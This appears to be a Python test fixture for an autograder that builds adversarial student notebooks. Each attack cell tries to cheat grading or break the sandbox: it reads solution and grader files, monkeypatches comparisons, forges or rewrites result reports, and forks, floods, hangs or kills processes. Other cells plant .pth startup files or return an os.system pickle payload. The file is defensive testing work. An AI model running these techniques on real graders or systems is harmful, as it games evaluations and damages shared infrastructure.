"""The attacks: student submissions that try one way each to gain points they
have not earned, to read what they must not, or to break the batch.

Each attack is ``pytorch_basics.ipynb`` with the honest Part 1 of
``TENSORS_OK`` (tensors 15/15) and ONE attack cell, so what it may score is
known: 15 for tensors, and 0 for every other group (the attack cell defines
nothing that is right on its own). The few that change the notebook itself
(nbgrader metadata) say what they score instead.

Cells are templates: ``@NAME@`` is replaced by :func:`render` with the batch's
facts (a unique marker, the report's path, the repository, a classmate's
notebook, a listening port), as an attacker who guessed them all would know.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from tests.autograder.conftest import TENSORS_OK
from tests.course import PYTORCH_VFA

ROOT = Path(__file__).resolve().parents[2]
HONEST = {group: 0.0 for group in PYTORCH_VFA.groups} | {"tensors": 15.0}  #: what TENSORS_OK earns

#: Helpers every attack cell starts with: leave files behind, and switch the worker's guard off
#: (it is only a report: with it off, the sandbox alone must hold).
PRELUDE = '''\
import gc, glob, json, os, re, signal, socket, subprocess, sys, time
MARKER = "@MARKER@"
TARGETS = @TARGETS@

def plant(tag):
    """Try to leave a file named after the marker in every target folder."""
    for folder in TARGETS:
        try:
            with open(os.path.join(folder, f"{MARKER}-{tag}"), "w") as f:
                f.write("left behind by an attack")
        except BaseException:
            pass

def disable_guard():
    """The worker's audit hook cannot be removed, but its handlers can be emptied."""
    for obj in gc.get_objects():
        if type(obj).__name__ == "Guard":
            type(obj)._HANDLERS = {}

def quietly(function, *args, **kwargs):
    try:
        return function(*args, **kwargs)
    except BaseException:
        return None

GRADED = ("NeuralNetwork", "ValueFunction", "predict_class", "logistic_gradients", "train_step", "predict_no_grad")

def steal_the_grader():
    """What an attacker would look for of the grader: its files by every route, read, imported and run."""
    import importlib, importlib.util, io, site
    roots = {"@REPO@", os.path.dirname(os.path.dirname(sys.modules["autograder"].__file__))}
    roots |= {os.path.normpath(os.path.join(p, "..")) for p in sys.path if p}
    roots |= set(quietly(site.getsitepackages) or [])
    texts, modules = {}, {}
    for name in ("assignments.pytorch_vfa.mistakes", "assignments.pytorch_vfa.feedback",
                 "assignments.pytorch_vfa.checks.test_networks", "autograder.checks.framework", "autograder.course",
                 "solutions.pytorch_vfa"):
        spec = quietly(importlib.util.find_spec, name)
        if spec is not None and spec.origin:
            texts[spec.origin] = quietly(lambda: open(spec.origin).read())
        module = quietly(importlib.import_module, name)
        if module is not None:
            modules[name] = module
    for root in roots:
        for relative in ("assignments/pytorch_vfa/mistakes.py", "assignments/pytorch_vfa/feedback.py",
                         "assignments/pytorch_vfa/checks/test_networks.py", "autograder/checks/framework.py",
                         "autograder/feedback.py", "solutions/pytorch_vfa/networks.py"):
            path = os.path.join(root, relative)
            for read in (lambda: open(path).read(), lambda: io.open_code(path).read().decode()):
                texts[path] = quietly(read) or texts.get(path)
            out = quietly(subprocess.run, ["cat", path], capture_output=True, text=True, timeout=10)
            if out is not None and out.stdout:
                texts[path + ":cat"] = out.stdout
        for pattern in (os.path.join(root, "assignments", "*", "*.py"), os.path.join(root, "autograder", "*.py")):
            for found in quietly(glob.glob, pattern) or []:
                texts[found] = quietly(lambda: open(found).read())
        mistakes = os.path.join(root, "assignments", "pytorch_vfa", "mistakes.py")
        spec = quietly(importlib.util.spec_from_file_location, "stolen_mistakes", mistakes)
        if spec is not None and os.path.exists(mistakes):
            quietly(sys.path.insert, 0, root)  # what the mistakes import: the reference, next to them
            module = quietly(importlib.util.module_from_spec, spec)
            if module is not None and quietly(spec.loader.exec_module, module) is None and hasattr(module, "reference"):
                modules["stolen_mistakes"] = module
    stolen = {}
    for module in modules.values():
        reference = getattr(module, "reference", module)
        stolen.update({name: getattr(reference, name) for name in GRADED if hasattr(reference, name)})
    for path, text in texts.items():  # the reference's source, wherever it was read: run it
        if text and "class NeuralNetwork" in text and path.startswith(tuple(roots)):
            scope = {}
            quietly(exec, text, scope)
            stolen.update({k: v for k, v in scope.items() if k in GRADED})
    return stolen
'''


@dataclass(frozen=True)
class Attack:
    name: str
    what: str  #: what it tries, in a sentence
    cell: str  #: the attack cell (after PRELUDE)
    tampering: bool = True  #: the report must say so (diagnosis or note ``tampering``)
    groups: dict[str, float] = field(default_factory=lambda: dict(HONEST))  #: its exact group scores
    checks: dict[str, str] = field(default_factory=dict)  #: check -> the diagnosis it must get
    bwrap_only: bool = False  #: unsafe or pointless to run without the sandbox
    #: what still works with ``--sandbox process`` (``points``, ``files``, ``network``)
    process_holes: frozenset[str] = frozenset()
    metadata: str | None = None  #: instead of a cell: how the notebook's metadata is changed


ATTACKS = [
    Attack("import-solutions", "import the reference package and use its functions", '''
stolen = {}
for name in ("solutions", "solutions.pytorch_vfa", "solutions.pytorch_vfa.networks", "solutions.pytorch_vfa.gradients",
             "solutions.pytorch_vfa.td", "assignments.pytorch_vfa.mistakes"):
    module = quietly(__import__, name, fromlist=["*"])
    if module is not None:
        stolen.update({k: v for k, v in vars(module).items() if not k.startswith("_")})
disable_guard()
for name in ("solutions.pytorch_vfa.networks", "solutions.pytorch_vfa.gradients"):
    module = quietly(__import__, name, fromlist=["*"])
    if module is not None:
        stolen.update({k: v for k, v in vars(module).items() if not k.startswith("_")})
globals().update(stolen)
from solutions.pytorch_vfa.networks import *  # noqa: the last try, which fails the cell
'''),

    Attack("import-solutions-in-a-function", "import the reference at call time, inside a graded function", '''
def predict_class(model, x):
    from solutions.pytorch_vfa.networks import predict_class as reference
    return reference(model, x)
''', checks={"networks.predict_class": "tampering"}),

    Attack("read-solution-files", "find the repository (editable install, /proc, mounts) and read solutions/*.py", '''
roots = {"@REPO@", "/work/main", "/work", "/srv", "/opt", "/home", "/root", "/autograder"}
import autograder
roots.add(os.path.dirname(os.path.dirname(autograder.__file__)))

def learn_roots():
    for finder in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "__editable__*finder.py")):
        text = quietly(lambda: open(finder).read()) or ""
        roots.update(re.findall(r"'(/[^']+)/(?:solutions|autograder)'", text))
    for name in ("/proc/self/mountinfo", "/proc/self/maps", "/proc/1/cmdline", "/proc/1/environ",
                 "/proc/self/environ", "/proc/%d/cmdline" % os.getppid()):
        text = quietly(lambda: open(name, "rb").read().decode(errors="replace")) or ""
        roots.update(p.rsplit("/autograder", 1)[0] for p in re.findall(r"(/[\\w./+-]*/autograder)\\b", text))

def loot():
    found = {}
    for root in list(roots):
        for folder in (os.path.join(root, "solutions"), os.path.join(root, "solutions", "pytorch_vfa")):
            for name in quietly(os.listdir, folder) or []:
                path = os.path.join(folder, name)
                if name.endswith(".py"):
                    found[path] = quietly(lambda: open(path).read())
        out = quietly(subprocess.run, ["sh", "-c", f"cat {root}/solutions/*.py {root}/solutions/*/*.py"],
                      capture_output=True, text=True, timeout=10)
        if out is not None and out.stdout:
            found[os.path.join(root, "solutions") + ":sh"] = out.stdout
    return found

learn_roots()
found = loot()
disable_guard()
learn_roots()
found.update(loot())
for path, text in found.items():
    if text and "def " in text and path.startswith("@REPO@/"):  # run nothing of another project's
        scope = {}
        quietly(exec, text, scope)  # the reference, if it was read: its functions score
        globals().update({k: v for k, v in scope.items() if k in ("NeuralNetwork", "ValueFunction", "predict_class",
                          "logistic_gradients", "train_step", "predict_no_grad")})
''', process_holes=frozenset({"points"})),

    Attack("read-the-grader", "find the plug-in's known mistakes, checks and feedback and the engine's grading code "
           "(imports, find_spec, paths next to the worker's code, the checkout, site-packages) and use them", '''
stolen = steal_the_grader()
if stolen:
    globals().update(stolen)
'''),

    Attack("run-a-known-mistake", "switch the guard off, load the known-mistakes module from disk and use its "
           "versions of the graded functions (a 'mistake' called with the right options is the reference)", '''
disable_guard()
stolen = steal_the_grader()
if stolen:
    globals().update(stolen)
''', process_holes=frozenset({"points"})),

    Attack("monkeypatch-comparisons", "patch torch/numpy comparisons and tensor attributes, then return wrong answers",
           '''
import numpy, torch, torch.testing
always = lambda *args, **kwargs: True
torch.allclose = torch.equal = always
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
numpy.allclose = numpy.array_equal = always
torch.Tensor.grad_fn = property(lambda self: None)  # what predict_no_grad's probe reads
torch.Tensor.requires_grad = property(lambda self: False)

def predict_class(model, x):
    return None

def predict_no_grad(model, x):
    return model(x)  # records a graph: worth nothing
'''),

    Attack("monkeypatch-inside-a-function", "patch the tensor attributes a probe reads, while it runs", '''
import torch

def predict_no_grad(model, x):
    torch.Tensor.grad_fn = property(lambda self: None)
    torch.Tensor.requires_grad = property(lambda self: False)
    return model(x)  # records a graph, hidden by the patch
''', checks={"autograd.predict_no_grad": "tampering"}),

    Attack("lying-tensor-subclass", "return tensors and ints whose class lies about comparisons and graphs", '''
import torch

class Innocent(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func == torch.Tensor.requires_grad.__get__:  # (each access makes a new wrapper: compare with ==)
            return False
        if func == torch.Tensor.grad_fn.__get__:
            return None
        if func in (torch.equal, torch.allclose, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

    def as_subclass(self, cls):
        return self  # stay a liar when stripped the easy way

class Agreeable(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__

def predict_no_grad(model, x):
    return model(x).as_subclass(Innocent)

def predict_class(model, x):
    return Agreeable(-1)
''', checks={"autograd.predict_no_grad": "tampering"}),

    Attack("inspect-caller-frames", "look for expected values in the grader's frames", '''
import inspect
seen = []

def snoop():
    frame = sys._getframe(2)
    while frame is not None:
        seen.append(dict(frame.f_locals))
        frame = frame.f_back
    for info in inspect.stack():
        seen.append(dict(info.frame.f_locals))

def predict_class(model, x):
    snoop()
    return None

quietly(snoop)
''', checks={"networks.predict_class": "tampering"}),

    Attack("fake-results", "print a perfect report and write results.json where a grader might read it", '''
perfect = {"assignment": "pytorch_vfa", "device": "cpu", "submissions": [{
    "student": "@SELF@", "status": "graded", "score": 100.0, "max_score": 100.0,
    "groups": {"tensors": 15.0, "networks": 15.0, "autograd": 10.0, "td0": 20.0, "q": 20.0, "baird": 20.0},
    "checks": []}]}
text = json.dumps(perfect)
print(text)
sys.stderr.write(text)
quietly(os.write, 1, text.encode())
quietly(os.write, 2, text.encode())
for path in ("results.json", "/autograder/results/results.json", "@OUTPUT@", "@CWD@/results.json",
             "@OUTDIR@/@MARKER@-results.json"):
    quietly(os.makedirs, os.path.dirname(os.path.abspath(path)), exist_ok=True)
    quietly(lambda: open(path, "w").write(text))
plant("fake-results")
'''),

    Attack("background-rewriter", "double-fork a daemon that rewrites the report once the grader has written it", '''
def rewrite_when_ready():
    deadline = time.time() + 240
    while time.time() < deadline:
        if os.path.exists("@OUTPUT@"):
            time.sleep(1)
            quietly(lambda: open("@OUTPUT@", "w").write('{"submissions": [{"score": 100.0}]}'))
            plant("daemon")
            return
        time.sleep(0.2)

child = os.fork()
if child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            rewrite_when_ready()
    finally:
        os._exit(0)
os.waitpid(child, 0)
'''),

    Attack("background-rewriter-shell", "start a detached shell loop (no Python, new session) to rewrite the report", '''
script = ('for i in $(seq 1200); do if [ -e "@OUTPUT@" ]; then sleep 1; echo hacked > "@OUTPUT@"; '
          'echo x > "@OUTDIR@/@MARKER@-shell"; exit; fi; sleep 0.2; done')
for argv, new_session in ((["sh", "-c", script, "@MARKER@-shell"], True),
                          (["setsid", "-f", "sh", "-c", script, "@MARKER@-setsid"], False),
                          (["sh", "-c", f"({script}) &", "@MARKER@-bg"], False)):
    quietly(subprocess.Popen, argv, start_new_session=new_session, stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(0.5)
'''),

    Attack("sys-exit", "end the worker from a cell with sys.exit", "sys.exit(0)\n", tampering=False),
    Attack("os-exit", "end the worker from a cell with os._exit", "os._exit(0)\n", tampering=False),
    Attack("abort", "abort the worker from a cell", "os.abort()\n", tampering=False),
    Attack("segfault", "crash the interpreter from a cell", "import ctypes\nctypes.string_at(0)\n", tampering=False),
    Attack("exit-in-a-function", "end the worker from inside a graded function", '''
def predict_class(model, x):
    os._exit(3)
''', tampering=False),

    Attack("hang-in-a-cell", "hang a cell with every catchable signal ignored", '''
for name in ("SIGALRM", "SIGTERM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGVTALRM"):
    signal.signal(getattr(signal, name), signal.SIG_IGN)
while True:
    pass
''', tampering=False),

    Attack("hang-in-a-function", "hang a graded class's constructor with signals ignored and blocked", '''
import torch.nn as nn

class NeuralNetwork(nn.Module):
    def __init__(self, *args):
        super().__init__()
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT})
        while True:
            pass
''', tampering=False),

    Attack("memory-tensor", "allocate a 20 GiB tensor", '''
import torch
hog = torch.empty(20 * 2**30, dtype=torch.uint8)
''', tampering=False),

    Attack("memory-list", "grow a list until memory runs out", '''
hog = []
while True:
    hog.append(bytearray(2**26))
''', tampering=False),

    Attack("fork-bomb", "fork without end (bounded by the sandbox's process limit)", '''
root, deadline = os.getpid(), time.monotonic() + 20  # a safety net only: the sandbox is what is tested
while time.monotonic() < deadline:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
if os.getpid() != root:
    os._exit(0)
''', tampering=False, bwrap_only=True),

    Attack("flood-output", "print 1 GiB through sys.stdout and 8 GiB straight to the file descriptors", '''
print("x" * 2**30)
sys.stderr.write("y" * 2**28)
chunk = b"z" * 2**20
for _ in range(4096):
    os.write(1, chunk)
    os.write(2, chunk)
''', tampering=False),

    Attack("network", "connect to a listener on the grader's machine (Python, UDP and a subprocess)", '''
def reach():
    for host in ("127.0.0.1", "localhost"):
        conn = quietly(socket.create_connection, (host, @PORT@), timeout=2)
        if conn is not None:
            quietly(conn.sendall, MARKER.encode())
            conn.close()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    quietly(udp.sendto, MARKER.encode(), ("127.0.0.1", @PORT@))

reach()
code = "import socket; socket.create_connection(('127.0.0.1', @PORT@), timeout=2).sendall(b'@MARKER@')"
quietly(subprocess.run, [sys.executable, "-c", code], timeout=10, capture_output=True)
disable_guard()
reach()
''', process_holes=frozenset({"network"})),

    Attack("read-a-classmate", "find a classmate's notebook in the batch and run its code", '''
def candidates():
    found = {"@CLASSMATE@"}
    for pattern in ("../*/pytorch_vfa/*.ipynb", "../../*/pytorch_vfa/*.ipynb", "/tmp/*/*/pytorch_vfa/*.ipynb",
                    "@BATCH@/*/pytorch_vfa/*.ipynb"):
        found.update(quietly(glob.glob, pattern, recursive=True) or [])
    for entry in quietly(glob.glob, "/proc/[0-9]*/cmdline") or []:
        words = (quietly(lambda: open(entry, "rb").read()) or b"").decode(errors="replace").split("\\0")
        for word in words:
            if word.endswith("submitted") or word.endswith(".ipynb"):
                found.update(quietly(glob.glob, word.rstrip("/") + "/*/pytorch_vfa/*.ipynb") or [word])
    return found

def steal():
    code = []
    for path in candidates():
        if "@SELF@" in path or not path.startswith("@BATCH@"):  # this batch only: never another run's files
            continue
        text = quietly(lambda: open(path).read())
        if text is None:
            out = quietly(subprocess.run, ["cat", path], capture_output=True, text=True, timeout=10)
            text = out.stdout if out is not None else None
        notebook = quietly(json.loads, text or "") if MARKER not in (text or "") else None  # not other attacks
        if notebook:  # what grading runs (no experiments, no tests), and no stubs
            code += ["".join(c["source"]) for c in notebook["cells"] if c["cell_type"] == "code"
                     and not c.get("id", "").startswith("experiment-")
                     and not c.get("metadata", {}).get("nbgrader", {}).get("grade")
                     and "NotImplementedError" not in "".join(c["source"])]
    for source in code:
        quietly(exec, source, globals())

steal()
disable_guard()
steal()
''', process_holes=frozenset({"points"})),

    Attack("unpickle-payload", "return objects that would run code if the grader unpickled them", '''
class Payload:
    def __reduce__(self):
        return (os.system, ("touch @OUTDIR@/@MARKER@-unpickled",))

def predict_class(model, x):
    return Payload()

def predict_no_grad(model, x):
    return Payload()
''', checks={"networks.predict_class": "tampering", "autograd.predict_no_grad": "tampering"}),

    Attack("forged-wire-tensor", "return data shaped like the grader's encoding of a tensor", '''
import base64, torch
import torch.nn as nn

class NeuralNetwork(nn.Module):
    def __init__(self, *args):
        super().__init__()
        self.linear1, self.linear2, self.linear3 = nn.Linear(4, 8), nn.Linear(8, 8), nn.Linear(8, 3)

    def forward(self, x):
        zeros = torch.zeros(x.shape[:-1] + (3,))
        return {"__tensor__": True, "dtype": "float32", "shape": list(zeros.shape), "device": "cpu",
                "requires_grad": False, "has_grad_fn": False,
                "data": base64.b64encode(zeros.numpy().tobytes()).decode()}
''', checks={"networks.neural_network": "tampering"}),

    Attack("patch-the-worker", "patch the grader's probes inside the worker, then return a graph", '''
import assignments.pytorch_vfa.probes as probes
from autograder.worker import api, seeding

original, real_run = probes.predict_no_grad, api.run

def lenient(student, **kwargs):
    result = original(student, **kwargs)
    result["records_graph"] = False
    return result

def run(found, name, student, **kwargs):
    result = real_run(found, name, student, **kwargs)
    if isinstance(result, dict) and "records_graph" in result:
        result["records_graph"] = False
    return result

probes.predict_no_grad = lenient
api.run = run
seeding.seed_everything = lambda seed: None

def predict_no_grad(model, x):
    return model(x)
'''),

    Attack("patch-a-probe-class", "switch the guard's handlers off, then patch the grader's network and "
           "random-walk classes from inside a graded function", '''
def predict_class(model, x):
    disable_guard()
    probes = sys.modules["assignments.pytorch_vfa.probes"]
    probes.Mlp.forward = lambda self, x: x.sum(-1, keepdim=True) * 0
    probes.RandomWalk.step = lambda self, action: (self.observe(), 1.0, True, False, {})
    return 0
''', checks={"networks.predict_class": "tampering"}),

    Attack("kill-the-grader", "signal every process it can: kill -1, its parent, init", '''
for pid in (-1, os.getppid(), 1):
    quietly(os.kill, pid, signal.SIGKILL)
disable_guard()
for pid in (-1, os.getppid(), 1):
    quietly(os.kill, pid, signal.SIGKILL)
''', bwrap_only=True),

    Attack("plant-startup-files", "write .pth and sitecustomize files where the grader's Python would run them", '''
import site
folders = set(site.getsitepackages() + [site.getusersitepackages(), sys.prefix, "@REPO@"]) | set(sys.path)

def plant_startup():
    for folder in folders:
        for name in ("@MARKER@.pth", "@MARKER@-sitecustomize.py"):
            quietly(lambda: open(os.path.join(folder, name), "w").write("import os\\n"))
        quietly(subprocess.run, ["sh", "-c", f"echo x > '{folder}/@MARKER@-sh.pth'"], timeout=5)

plant_startup()
disable_guard()
plant_startup()
plant("startup")
''', bwrap_only=True),

    Attack("nbgrader-metadata", "raise points and flags in the nbgrader metadata, invent a grade_id",
           "", metadata="points"),
    # a cell that defines a graded function runs whatever its id (autograder/notebooks.py): the honest score
    Attack("experiment-ids", "give graded cells ids that grading skips (experiments)", "",
           metadata="experiment-ids"),
    Attack("edit-hidden-tests", "put a correct NeuralNetwork in a hidden test cell, empty a visible one", "",
           metadata="hidden-tests"),
]

#: The residual risk, kept visible: a student who switches the guard off can take
#: over everything measured inside the worker (here: whether a result records a graph).
TAKEOVER = Attack("take-over-the-worker", "disable the guard's restore, then patch what a probe measures", '''
from autograder.worker import guard
guard.Integrity.restore = lambda self: []
disable_guard()
import torch
torch.Tensor.grad_fn = property(lambda self: None)
torch.Tensor.requires_grad = property(lambda self: False)

def predict_no_grad(model, x):
    return model(x)
''', tampering=False)

BY_NAME = {attack.name: attack for attack in ATTACKS}
assert len(BY_NAME) == len(ATTACKS) >= 15


def render(text: str, facts: dict[str, str]) -> str:
    """``text`` with every ``@NAME@`` replaced by ``facts[NAME]``."""
    for key, value in facts.items():
        text = text.replace(f"@{key}@", value)
    left = re.findall(r"@[A-Z]+@", text)
    assert not left, f"no fact for {left}"
    return text


def notebook(attack: Attack, facts: dict[str, str]) -> nbformat.NotebookNode:
    """The attack's pytorch_basics notebook."""
    if attack.metadata:
        return metadata_notebook(attack.metadata)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(TENSORS_OK), nbformat.v4.new_code_cell(render(PRELUDE + attack.cell, facts))]
    return nb


def _solution_cell_defining(nb, name: str):
    return next(cell for cell in nb.cells if cell.cell_type == "code"
                and cell.metadata.get("nbgrader", {}).get("solution")
                and (f"def {name}(" in cell.source or f"class {name}(" in cell.source))


def honest_release_notebook() -> nbformat.NotebookNode:
    """The release pytorch_basics notebook with TENSORS_OK's functions in their
    solution cells (the other parts still stubs): what TENSORS_OK earns."""
    nb = nbformat.read(PYTORCH_VFA.release_dir / "pytorch_basics.ipynb", as_version=4)
    header, *functions = TENSORS_OK.split("\ndef ")
    for function in functions:
        name = function.split("(", 1)[0]
        _solution_cell_defining(nb, name).source = f"{header.strip()}\n\n\ndef {function.strip()}\n"
    return nb


def metadata_notebook(kind: str) -> nbformat.NotebookNode:
    """The honest release notebook with its grading metadata tampered with."""
    nb = honest_release_notebook()
    cells = {cell.get("id"): cell for cell in nb.cells}
    if kind == "points":
        cells["tensor-from-data-hidden-tests"].metadata["nbgrader"]["points"] = 100
        cells["column-solution"].metadata["nbgrader"].update(grade=True, points=50)
        cells["flat-view-solution"].metadata["nbgrader"]["grade_id"] = "bonus-points"
    elif kind == "experiment-ids":
        experiment = next(i for i, cell in enumerate(nb.cells) if cell.get("id", "").startswith("experiment-"))
        real_id = nb.cells[experiment]["id"]
        del nb.cells[experiment]
        cells["tensor-from-data-solution"]["id"] = real_id  # skipped like the experiment it claims to be
        cells["column-solution"]["id"] = "experiment-column"  # not an experiment of the source: still run
    elif kind == "hidden-tests":
        reference = (PYTORCH_VFA.reference_folder() / "networks.py").read_text()
        cells["neural-network-hidden-tests"].source = reference.split("def predict_class")[0]
        cells["column-tests"].source = "pass\n"
    else:
        raise ValueError(kind)
    return nb
